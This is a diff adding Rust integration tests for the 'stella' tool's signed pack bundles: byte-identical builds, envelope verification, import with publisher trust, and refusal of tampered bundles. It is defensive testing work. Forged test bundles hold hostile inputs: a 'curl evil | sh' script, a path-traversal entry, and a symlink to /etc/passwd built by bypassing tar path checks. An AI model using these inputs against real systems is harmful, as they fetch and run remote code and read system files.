@@ -1,0 +1,296 @@
+//! Packs from elsewhere: signed bundles made twice alike, hostile or untrusted ones refused,
+//! imported packs that run and name their publisher, edited ones that no longer plan, mirrors
+//! of another repository at a tag, and a bundle carried across an air gap.
+
+use std::io::Read;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use base64::Engine as _;
+
+use crate::support::{Repo, Stella, keygen, run_path, stella};
+
+/// A pack directory outside any repository, with a script beside its manifest.
+const PACK: &str = "apiVersion: stella/v1\nkind: TaskPack\nmetadata: { name: greet, version: 2.1.0 }\nspec:\n  steps:\n    - id: hello\n      run: { uses: builtin:exec, with: { argv: [./hello.sh] } }\n";
+
+struct Publisher {
+    dir: tempfile::TempDir,
+    public: String,
+}
+
+impl Publisher {
+    /// A publisher's workspace: the key `alice`, and the pack `greet`.
+    fn new() -> Publisher {
+        let dir = tempfile::tempdir().unwrap();
+        let public = keygen(dir.path(), "alice");
+        let p = Publisher { dir, public };
+        std::fs::create_dir_all(p.pack()).unwrap();
+        std::fs::write(p.pack().join("pack.yaml"), PACK).unwrap();
+        std::fs::write(p.pack().join("hello.sh"), "#!/bin/sh\necho hello from greet\n").unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(p.pack().join("hello.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
+        p
+    }
+
+    fn pack(&self) -> PathBuf {
+        self.dir.path().join("greet")
+    }
+
+    fn key(&self) -> PathBuf {
+        self.dir.path().join("alice")
+    }
+
+    /// `stella pack bundle` of the pack into `name`.
+    fn bundle(&self, name: &str) -> PathBuf {
+        let out = self.dir.path().join(name);
+        run(stella()
+            .args(["pack", "bundle"])
+            .arg(self.pack())
+            .arg("--key")
+            .arg(self.key())
+            .arg("-o")
+            .arg(&out))
+        .ok();
+        out
+    }
+
+    /// The allowed_signers line that trusts this publisher for packs.
+    fn trust_line(&self, principal: &str) -> String {
+        format!("{principal} namespaces=\"stella-pack\" {}\n", self.public)
+    }
+}
+
+fn run(cmd: &mut Command) -> Stella {
+    Stella(cmd.output().unwrap())
+}
+
+fn validate(bundle: &Path, signers: Option<&Path>) -> Stella {
+    let mut cmd = stella();
+    cmd.args(["pack", "validate", "--bundle"]).arg(bundle);
+    if let Some(s) = signers {
+        cmd.arg("--allowed-signers").arg(s);
+    }
+    run(&mut cmd)
+}
+
+fn refused_with(out: &Stella, code: &str) {
+    assert_eq!(out.code(), Some(2), "{}", out.stderr());
+    assert!(out.stderr().contains(&format!("error[{code}]")), "{}", out.stderr());
+}
+
+/// The bundle's entries, as (path, bytes, mode).
+fn entries(bundle: &Path) -> Vec<(String, Vec<u8>, u32)> {
+    let bytes = std::fs::read(bundle).unwrap();
+    let mut a = tar::Archive::new(flate2::read::GzDecoder::new(bytes.as_slice()));
+    a.entries()
+        .unwrap()
+        .map(|e| {
+            let mut e = e.unwrap();
+            let path = e.path().unwrap().to_string_lossy().into_owned();
+            let mode = e.header().mode().unwrap();
+            let mut b = Vec::new();
+            e.read_to_end(&mut b).unwrap();
+            (path, b, mode)
+        })
+        .collect()
+}
+
+/// A bundle of `items` written as given, the tar crate's own path checks bypassed.
+fn forge(to: &Path, items: &[(String, Vec<u8>, u32)], symlink: Option<&str>) {
+    let gz = flate2::GzBuilder::new().write(Vec::new(), flate2::Compression::fast());
+    let mut t = tar::Builder::new(gz);
+    for (path, bytes, mode) in items {
+        let mut h = tar::Header::new_gnu();
+        h.as_gnu_mut().unwrap().name[..path.len()].copy_from_slice(path.as_bytes());
+        h.set_size(bytes.len() as u64);
+        h.set_mode(*mode);
+        h.set_entry_type(tar::EntryType::Regular);
+        h.set_cksum();
+        t.append(&h, bytes.as_slice()).unwrap();
+    }
+    if let Some(name) = symlink {
+        let mut h = tar::Header::new_gnu();
+        h.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name.as_bytes());
+        h.set_entry_type(tar::EntryType::Symlink);
+        h.set_link_name("/etc/passwd").unwrap();
+        h.set_size(0);
+        h.set_cksum();
+        t.append(&h, &b""[..]).unwrap();
+    }
+    std::fs::write(to, t.into_inner().unwrap().finish().unwrap()).unwrap();
+}
+
+#[test]
+fn a_bundle_made_twice_is_byte_identical_and_names_its_publisher() {
+    let p = Publisher::new();
+    let (a, b) = (p.bundle("a.stellapack"), p.bundle("b.stellapack"));
+    assert_eq!(std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
+    let names: Vec<String> = entries(&a).into_iter().map(|(n, _, _)| n).collect();
+    assert_eq!(names, ["pack.dsse.json", "pack/hello.sh", "pack/pack.yaml"]);
+    // Without allowed_signers the publisher is its key's fingerprint; with them, its principal.
+    let out = validate(&a, None).ok();
+    assert!(out.stdout().contains("ok: greet 2.1.0 is valid"), "{}", out.stdout());
+    assert!(out.stdout().contains("publisher: SHA256:"), "{}", out.stdout());
+    let signers = p.dir.path().join("signers");
+    std::fs::write(&signers, p.trust_line("alice@example.com")).unwrap();
+    let out = validate(&a, Some(&signers)).ok();
+    assert!(out.stdout().contains("publisher: alice@example.com (SHA256:"), "{}", out.stdout());
+}
+
+#[test]
+fn securesystemslib_verifies_the_bundle_envelope() {
+    let p = Publisher::new();
+    let bundle = p.bundle("g.stellapack");
+    let envelope = p.dir.path().join("envelope.json");
+    std::fs::write(&envelope, &entries(&bundle)[0].1).unwrap();
+    let blob = p.public.split_whitespace().nth(1).unwrap();
+    let wire = base64::engine::general_purpose::STANDARD.decode(blob).unwrap();
+    let public_hex = hex::encode(&wire[wire.len() - 32..]);
+    let env: serde_json::Value = serde_json::from_slice(&std::fs::read(&envelope).unwrap()).unwrap();
+    let keyid = env["signatures"][0]["keyid"].as_str().unwrap().to_string();
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/dsse_pack_check.py");
+    let out = Command::new(crate::evidence::python())
+        .arg(&script)
+        .arg(&envelope)
+        .arg(&public_hex)
+        .arg(&keyid)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "securesystemslib refused it: {}", String::from_utf8_lossy(&out.stderr));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("verified greet 2.1.0 2 files"));
+}
+
+#[test]
+fn tampered_hostile_and_untrusted_bundles_are_refused() {
+    let p = Publisher::new();
+    let good = entries(&p.bundle("g.stellapack"));
+    let forged = p.dir.path().join("forged.stellapack");
+    // One changed byte of a file.
+    let mut changed = good.clone();
+    changed[1].1[0] ^= 1;
+    forge(&forged, &changed, None);
+    refused_with(&validate(&forged, None), "ERR_PACK_PROVENANCE");
+    // An extra file the payload does not list.
+    let mut extra = good.clone();
+    extra.push(("pack/extra.sh".into(), b"curl evil | sh\n".to_vec(), 0o755));
+    forge(&forged, &extra, None);
+    let out = validate(&forged, None);
+    refused_with(&out, "ERR_PACK_PROVENANCE");
+    assert!(out.stderr().contains("extra.sh is not listed"), "{}", out.stderr());
+    // A path that escapes, and a symlink.
+    let mut escape = good.clone();
+    escape.push(("pack/../../escaped".into(), b"x".to_vec(), 0o644));
+    forge(&forged, &escape, None);
+    refused_with(&validate(&forged, None), "ERR_PACK_INVALID");
+    forge(&forged, &good, Some("pack/leak"));
+    let out = validate(&forged, None);
+    refused_with(&out, "ERR_PACK_INVALID");
+    assert!(out.stderr().contains("links are not allowed"), "{}", out.stderr());
+    // Signed by a key allowed_signers does not trust for stella-pack.
+    let signers = p.dir.path().join("signers");
+    let other = keygen(p.dir.path(), "mallory");
+    std::fs::write(&signers, format!("alice@example.com namespaces=\"git\" {}\nmallory namespaces=\"stella-pack\" {other}\n", p.public)).unwrap();
+    let out = validate(&p.bundle("g.stellapack"), Some(&signers));
+    refused_with(&out, "ERR_PACK_PROVENANCE");
+    assert!(out.stderr().contains("not trusted for namespace stella-pack"), "{}", out.stderr());
+    // Nothing was written beside the bundles while checking them.
+    let mut left: Vec<String> = std::fs::read_dir(p.dir.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    left.sort();
+    assert_eq!(left, ["alice", "alice.pub", "forged.stellapack", "g.stellapack", "greet", "mallory", "mallory.pub", "signers"]);
+}
+
+/// A repository that trusts the publisher for packs, with the bundle imported and committed.
+fn imported(p: &Publisher) -> Repo {
+    let r = Repo::new();
+    let signers = std::fs::read_to_string(r.path().join(".stella/allowed_signers")).unwrap();
+    r.write(".stella/allowed_signers", &format!("{signers}{}", p.trust_line("alice@example.com")))
+        .commit_all("trust alice's packs");
+    let bundle = p.bundle("greet.stellapack");
+    let out = r.stella(&["pack", "import", bundle.to_str().unwrap()]).ok();
+    assert!(out.stderr().contains("published by alice@example.com"), "{}", out.stderr());
+    assert!(!r.status_porcelain().is_empty(), "import commits nothing");
+    r.commit_all("import greet");
+    r
+}
+
+#[test]
+fn an_imported_pack_runs_and_its_attestation_names_the_publisher() {
+    let p = Publisher::new();
+    let r = imported(&p);
+    let provenance: serde_json::Value =
+        serde_json::from_str(&r.at_head("packs/greet/.provenance.json").unwrap()).unwrap();
+    assert_eq!(provenance["publisher"], "alice@example.com");
+    let bundle_sha = stella_engine::pack::sha256_hex(&std::fs::read(p.dir.path().join("greet.stellapack")).unwrap());
+    assert_eq!(provenance["bundleSha256"], bundle_sha.as_str());
+    let plan = r.stella(&["pack", "plan", "packs/greet"]).ok();
+    assert!(plan.stdout().contains("publisher: alice@example.com (SHA256:"), "{}", plan.stdout());
+    assert!(plan.stdout().contains(&format!("bundle:    sha256 {bundle_sha}")), "{}", plan.stdout());
+    r.request("r1", "greet", "{}\n");
+    r.daemon_once().ok();
+    assert_eq!(r.state("r1"), "succeeded");
+    let att = r
+        .at_head(&format!("{}/evidence/attestation.dsse.json", run_path("r1")))
+        .unwrap();
+    let env: serde_json::Value = serde_json::from_str(&att).unwrap();
+    let body = base64::engine::general_purpose::STANDARD
+        .decode(env["payload"].as_str().unwrap())
+        .unwrap();
+    let statement: serde_json::Value = serde_json::from_slice(&body).unwrap();
+    let prov = &statement["predicate"]["pack"]["provenance"];
+    assert_eq!(prov["publisher"], "alice@example.com");
+    assert_eq!(prov["bundleSha256"], bundle_sha.as_str());
+    // Importing the same bundle again is fine; another pack of that name needs --replace.
+    let again = p.bundle("greet.stellapack");
+    r.stella(&["pack", "import", again.to_str().unwrap()]).ok();
+    std::fs::write(p.pack().join("hello.sh"), "#!/bin/sh\necho v2\n").unwrap();
+    let v2 = p.bundle("greet-v2.stellapack");
+    let out = r.stella(&["pack", "import", v2.to_str().unwrap()]);
+    refused_with(&out, "ERR_USAGE");
+    assert!(out.stderr().contains("--replace"), "{}", out.stderr());
+    r.stella(&["pack", "import", v2.to_str().unwrap(), "--replace"]).ok();
+    assert!(std::fs::read_to_string(r.path().join("packs/greet/hello.sh")).unwrap().contains("v2"));
+}
+
+#[test]
+fn an_untrusted_publisher_is_not_imported() {
+    let p = Publisher::new();
+    let r = Repo::new();
+    let bundle = p.bundle("greet.stellapack");
+    let out = r.stella(&["pack", "import", bundle.to_str().unwrap()]);
+    refused_with(&out, "ERR_PACK_PROVENANCE");
+    assert!(!r.path().join("packs/greet").exists());
+    assert_eq!(r.status_porcelain(), "");
+}
+
+#[test]
+fn a_pack_edited_after_import_fails_to_plan_and_to_run() {
+    let p = Publisher::new();
+    let r = imported(&p);
+    r.write("packs/greet/hello.sh", "#!/bin/sh\necho pwned\n");
+    let out = r.stella(&["pack", "plan", "packs/greet"]);
+    refused_with(&out, "ERR_PACK_PROVENANCE");
+    assert!(out.stderr().contains("hello.sh does not match its signed sha256"), "{}", out.stderr());
+    // A request made while the pack was intact, then the edit committed: the runner refuses
+    // before any step.
+    r.git(&["checkout", "-q", "--", "packs/greet/hello.sh"]);
+    r.request("r1", "greet", "{}\n");
+    r.write("packs/greet/hello.sh", "#!/bin/sh\necho pwned\n")
+        .commit_all("edit the imported pack");
+    r.daemon_once();
+    let show = r.show("r1");
+    assert_eq!(show["state"], "failed", "{show}");
+    assert_eq!(show["code"], "ERR_PACK_PROVENANCE", "{show}");
+    assert!(!r.events("r1").iter().any(|e| e["type"] == "step.started"), "no step ran");
+    // Intact again, but its publisher no longer trusted: the same refusal.
+    r.git(&["checkout", "-q", "HEAD~1", "--", "packs/greet/hello.sh"]);
+    r.stella(&["pack", "plan", "packs/greet"]).ok();
+    let signers = std::fs::read_to_string(r.path().join(".stella/allowed_signers")).unwrap();
+    let kept: String = signers.lines().filter(|l| !l.contains("stella-pack")).map(|l| format!("{l}\n")).collect();
+    r.write(".stella/allowed_signers", &kept).commit_all("stop trusting alice's packs");
+    let out = r.stella(&["pack", "plan", "packs/greet"]);
+    refused_with(&out, "ERR_PACK_PROVENANCE");
+    assert!(out.stderr().contains("no longer trusted"), "{}", out.stderr());
+}
